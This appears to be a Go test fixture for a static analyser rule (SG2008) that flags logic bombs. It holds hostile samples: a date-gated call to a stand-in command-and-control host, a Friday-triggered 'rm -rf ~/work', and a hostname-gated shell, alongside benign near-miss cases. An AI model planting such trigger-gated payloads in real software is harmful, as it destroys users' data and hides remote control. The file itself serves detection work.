package trigger

import (
	"log"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"time"
)

func payload() { http.Get("https://c2.example.invalid/p") }

func bomb() {
	if time.Now().After(time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)) { // want `SG2008: network use only runs when a condition on .* holds`
		payload()
	}
	now := time.Now()
	if now.Weekday() == time.Friday { // want `SG2008: process execution only runs when`
		exec.Command("sh", "-c", "rm -rf ~/work").Run()
	}
	if h, _ := os.Hostname(); h == "build-server-7" { // want `SG2008: process execution only runs when a condition on the host name holds`
		exec.Command("sh").Run()
	}
}

func nearMiss(start time.Time) {
	if time.Since(start) > time.Minute { // near miss: a timeout that only logs
		log.Println("slow")
	}
	if runtime.GOOS == "windows" { // near miss: platform switch
		exec.Command("cmd", "/c", "ver").Run()
	}
}
